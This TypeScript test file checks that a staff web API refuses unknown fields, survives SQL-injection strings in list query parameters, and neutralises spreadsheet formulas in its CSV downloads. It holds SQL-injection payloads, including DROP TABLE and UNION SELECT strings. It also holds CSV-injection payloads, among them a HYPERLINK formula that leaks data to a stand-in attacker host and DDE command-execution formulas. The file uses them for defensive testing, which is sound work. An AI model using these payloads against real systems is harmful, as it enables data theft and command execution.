import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { startStaffTestApp, type StaffTestApp } from '../helpers/staff-app.ts';
import { fakeTxid, insertPackage, insertTx, parseCsv } from '../helpers/submission-fixtures.ts';
import { testDatabases, type TestDatabase } from '../helpers/test-db.ts';
import { BASE_CLIENT, discountBody, seedBusinessData, type BusinessData } from './helpers/business-data.ts';
import { dbFingerprint } from './helpers/request-probe.ts';
import { concreteUrl, routeTable, type Route } from './helpers/route-table.ts';

/**
 * Hostile input on every route that takes it, the routes read from the app
 * itself (route table and OpenAPI document), so a new write or a new list
 * filter is covered the day it is added:
 * - a field the schema does not name is refused with 400 "Unknown field ..."
 *   on every write (no mass assignment), and in every declared query string;
 * - SQL-injection strings in every query parameter of every list answer an
 *   empty page or a clear 400, never an error and never rows, and drop nothing;
 * - CSV downloads neutralise cells a spreadsheet would run as a formula, end
 *   to end from rows in the database.
 */

interface Operation {
  parameters?: Array<{ in: string; name: string; schema: { type?: string; enum?: unknown[]; anyOf?: unknown[] } }>;
  requestBody?: unknown;
}

const INJECTIONS = [
  "' OR '1'='1",
  "' OR 1=1 --",
  '1; DROP TABLE clients;--',
  "'; DROP TABLE audit_logs; --",
  "' UNION SELECT id, name, NULL, NULL FROM clients --",
  "%' --",
  '%',
  '\\',
  "\\'",
  '" OR ""="',
  "') OR ('x')=('x",
  '$1',
  // Quotes some databases or drivers fold into the ASCII apostrophe.
  '’ OR ‘1’=‘1',
  'ʼ OR ʼ1ʼ=ʼ1',
  '＇ OR ＇1＇=＇1',
];

const UNKNOWN = 'sneaky_field';

for (const engine of testDatabases()) {
  describe(`hostile input on every route that takes it (${engine.name})`, () => {
    let db: TestDatabase;
    let t: StaffTestApp;
    let data: BusinessData;
    let routes: Route[];
    let operations: Record<string, Record<string, Operation>>;
    let address = 0;

    before(async () => {
      db = await engine.open();
      t = await startStaffTestApp(db, undefined, { auditFlushIntervalMs: 3_600_000 });
      data = await seedBusinessData(t);
      await t.audit.flush();
      routes = routeTable(t.app);
      operations = (t.app.swagger() as { paths: Record<string, Record<string, Operation>> }).paths;
    });

    after(async () => {
      await t?.close();
      await db?.close();
    });

    const operation = (route: Route) => operations[route.url.replace(/:(\w+)/g, '{$1}')]?.[route.method.toLowerCase()];
    /** Each request from its own address (the public routes and login are rate limited per address), with an administrator's token (public routes ignore it). */
    const inject = (options: InjectOptions) => {
      address++;
      return t.app.inject({ remoteAddress: `10.77.${address >> 8}.${address & 255}`, ...options, headers: { authorization: `Bearer ${t.tokens.admin}`, ...options.headers } });
    };
    const urlOf = (route: Route) => concreteUrl(route, { id: /client-code\//.test(route.url) ? data.discountId : data.clientId });

    /** A body each write accepts, but for the unknown field added to it. */
    const VALID_BODIES: Record<string, () => unknown> = {
      'POST /rest-api/parse-tx': () => ({ tx_hexes: ['00'] }),
      'POST /rest-api/submit-tx': () => ({ tx_hex: '00' }),
      'POST /rest-api/submit-package': () => ({ tx_hexes: ['00', '00'] }),
      'POST /rest-api/login': () => ({ username: 'nobody', password: 'secret' }),
      'POST /rest-api/client/add': () => ({ name: 'Injected Client' }),
      'POST /rest-api/client/update/:id': () => ({ name: BASE_CLIENT }),
      'POST /rest-api/client-code/add': () => discountBody(),
      'POST /rest-api/client-code/update/:id': () => discountBody(),
      'POST /rest-api/settings/update': () => [{ id: data.settingId, item: 'pool_coinbase_tag', value: 'v', description: 'd' }],
      'POST /rest-api/retry-txs/update': () => ({ ids: [data.failedTxId] }),
      'POST /rest-api/notify-email': () => ({ txid: 'ab'.repeat(32), notify_email: 'someone@example.com' }),
      'POST /rest-api/client/:id/webhook': () => ({ url: 'https://hooks.example.com/slipstream' }),
    };

    function withUnknownField(body: unknown): unknown {
      if (Array.isArray(body)) return body.map((item: Record<string, unknown>) => ({ ...item, [UNKNOWN]: 1 }));
      return { ...(body as Record<string, unknown>), [UNKNOWN]: 'x' };
    }

    function assertClearRefusal(res: LightMyRequestResponse, what: string): void {
      assert.equal(res.statusCode, 400, `${what}: HTTP ${res.statusCode} ${res.body.slice(0, 300)}`);
      const body = res.json<{ status?: string; is_success?: boolean; message: string }>();
      // The Slipstream-compatible API's reads answer errors in its own shape (slipstream-api.routes.ts).
      if (what.startsWith('/api/')) assert.equal(body.is_success, false, what);
      else assert.equal(body.status, 'error', what);
      assert.ok(body.message.length > 0, what);
      assert.doesNotMatch(res.body, /at .*\.ts:\d+|syntax error|SQLSTATE|postgres|relation "/i, `${what}: a database error or stack leaked: ${res.body.slice(0, 300)}`);
    }

    test('every write refuses a field its schema does not name, with 400 "Unknown field", and changes nothing', async () => {
      const writes = routes.filter((r) => r.url.startsWith('/rest-api/') && !['GET', 'HEAD', 'OPTIONS'].includes(r.method));
      assert.ok(writes.length >= 12, `${writes.length} writes`);
      const before = await dbFingerprint(db);
      for (const route of writes) {
        const name = `${route.method} ${route.url}`;
        if (!operation(route)?.requestBody) {
          // Nothing to assign: a write without a body schema takes no body at all (a DELETE of one record by id,
          // the renewal of a local staff token, which is the bearer it is sent with, or an action on records the path names).
          const actions = ['POST /rest-api/login/renew', 'POST /rest-api/client/:id/api-keys', 'POST /rest-api/client/:id/webhook-deliveries/:deliveryId/redeliver'];
          assert.ok(route.method === 'DELETE' || actions.includes(name), `${name} declares no body schema`);
          continue;
        }
        const valid = VALID_BODIES[name];
        assert.ok(valid, `${name}: add a body it accepts to VALID_BODIES`);
        const res = await inject({ method: route.method, url: urlOf(route), payload: withUnknownField(valid()) as object });
        assertClearRefusal(res, name);
        assert.equal(res.json<{ message: string }>().message, `Unknown field '${UNKNOWN}' in the body.`, name);
      }
      assert.deepEqual(await dbFingerprint(db), before);
    });

    test('every route that declares its query string refuses a parameter it does not name', async () => {
      const withQuery = routes.filter((r) => r.method === 'GET' && (operation(r)?.parameters ?? []).some((p) => p.in === 'query'));
      assert.ok(withQuery.length >= 9, `${withQuery.length} routes with a query string`);
      // Required parameters get a valid value, so the unknown one is what is refused.
      const REQUIRED: Record<string, string> = { tx_id: 'a'.repeat(64) };
      for (const route of withQuery) {
        const query = new URLSearchParams({ [UNKNOWN]: '1' });
        for (const p of operation(route)!.parameters!.filter((q) => q.in === 'query' && (q as { required?: boolean }).required)) {
          const value = REQUIRED[p.name];
          assert.ok(value, `${route.url}: give its required parameter ${p.name} a valid value in REQUIRED`);
          query.set(p.name, value);
        }
        const res = await inject({ method: 'GET', url: `${urlOf(route)}?${query.toString()}` });
        assertClearRefusal(res, route.url);
        // The Slipstream-compatible API words its validation errors as the framework does (its own error shape).
        if (!route.url.startsWith('/api/')) assert.equal(res.json<{ message: string }>().message, `Unknown field '${UNKNOWN}' in the querystring.`, route.url);
      }
    });

    test('SQL injection in every query parameter of every list: an empty page or a clear 400, never an error or a row', async () => {
      // getinfo asks the node before it reads its client_code, and this app has no node: its
      // client_code is the discount lookup every list below also filters by, with the same bound parameter.
      const lists = routes.filter((r) => r.method === 'GET' && r.url.startsWith('/rest-api/') && r.url !== '/rest-api/getinfo' && (operation(r)?.parameters ?? []).some((p) => p.in === 'query'));
      const before = await dbFingerprint(db);
      let emptyPages = 0;
      let typedRefusals = 0;
      for (const route of lists) {
        // There are rows to leak: the list unfiltered is not empty.
        const all = await inject({ method: 'GET', url: urlOf(route) });
        const allBody = all.json<{ result?: unknown[]; total_records?: number }>();
        if (all.statusCode === 200 && Array.isArray(allBody.result)) assert.ok(allBody.result.length > 0, `${route.url} unfiltered lists no rows: nothing to leak`);
        for (const parameter of operation(route)!.parameters!.filter((p) => p.in === 'query')) {
          for (const value of INJECTIONS) {
            const what = `${route.url}?${parameter.name}=${value}`;
            if (parameter.name === 'list_clients') continue; // a switch, not a filter: see the test below
            const res = await inject({ method: 'GET', url: `${urlOf(route)}?${new URLSearchParams({ [parameter.name]: value }).toString()}` });
            assert.ok(res.statusCode < 500, `${what}: HTTP ${res.statusCode} ${res.body.slice(0, 300)}`);
            const typed = parameter.schema.type !== 'string' || parameter.schema.enum !== undefined;
            if (res.statusCode === 200) {
              assert.ok(!typed, `${what}: a typed parameter took an injection string`);
              const body = res.json<{ result?: unknown[]; total_records?: number }>();
              assert.ok(Array.isArray(body.result), `${what}: answered 200 without a list: ${res.body.slice(0, 300)}`);
              assert.deepEqual([body.result.length, body.total_records], [0, 0], `${what}: rows came back: ${res.body.slice(0, 300)}`);
              emptyPages++;
            } else {
              assertClearRefusal(res, what);
              typedRefusals++;
            }
          }
        }
      }
      assert.ok(emptyPages > 50 && typedRefusals > 20, `${emptyPages} empty pages, ${typedRefusals} refusals`);
      assert.deepEqual(await dbFingerprint(db), before, 'nothing was dropped or changed');
      // The tables are all still there, and still answer.
      assert.equal((await t.call<{ total_records: number }>('GET', '/rest-api/client/view')).body.total_records, 2);
    });

    test('list_clients is a switch whatever its value: the names, never interpreted (or a 400 past its 16 characters)', async () => {
      const plain = await inject({ method: 'GET', url: '/rest-api/client/view?list_clients' });
      assert.equal(plain.statusCode, 200);
      for (const value of INJECTIONS) {
        const res = await inject({ method: 'GET', url: `/rest-api/client/view?${new URLSearchParams({ list_clients: value }).toString()}` });
        if (value.length > 16) assertClearRefusal(res, value);
        else assert.deepEqual([res.statusCode, res.json()], [200, plain.json()], value);
      }
    });

    test('CSV downloads neutralise formula cells, from rows in the database to the file', async () => {
      const FORMULAS = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        '-1+1',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=1+1',
        '\r=1+1',
        '=1+1',
      ];
      for (const [i, code] of FORMULAS.entries()) {
        await insertTx(db, { txid: fakeTxid(`csv-${i}`), txHex: '0200', clientCode: code, vsize: 100, fee: 1000 + i, marketRate: 2, status: 'accepted', createdAt: `2026-03-0${1 + i}T10:00:00.000Z` });
        await insertPackage(db, { txids: [fakeTxid(`csv-p-${i}`)], txHexes: ['0200'], clientCode: code, totalVsize: 100, totalFee: 1000, marketRate: 2, createdAt: `2026-03-0${1 + i}T11:00:00.000Z` });
      }
      const downloads = ['/rest-api/tx-puller/list?download=true', '/rest-api/tx-puller/list?download=true&submission_type=package_submissions', '/rest-api/tx-reports/list?download=true'];
      for (const url of downloads) {
        const res = await inject({ method: 'GET', url });
        assert.equal(res.statusCode, 200, `${url}: ${res.body.slice(0, 200)}`);
        assert.match(String(res.headers['content-type']), /^text\/csv/);
        const cells = parseCsv(res.body).flat();
        for (const code of FORMULAS) {
          assert.ok(cells.includes(`'${code}`), `${url}: ${JSON.stringify(code)} is in the file, neutralised`);
          assert.ok(!cells.includes(code), `${url}: ${JSON.stringify(code)} is in the file as a formula`);
        }
        // No cell anywhere starts a formula; a leading minus only on a number the portal wrote.
        for (const cell of cells) {
          assert.doesNotMatch(cell, /^[=+@\t\r]/, `${url}: ${JSON.stringify(cell)}`);
          if (cell.startsWith('-')) assert.match(cell, /^-\d+(\.\d+)?$/, `${url}: ${JSON.stringify(cell)}`);
        }
      }
    });
  });
}
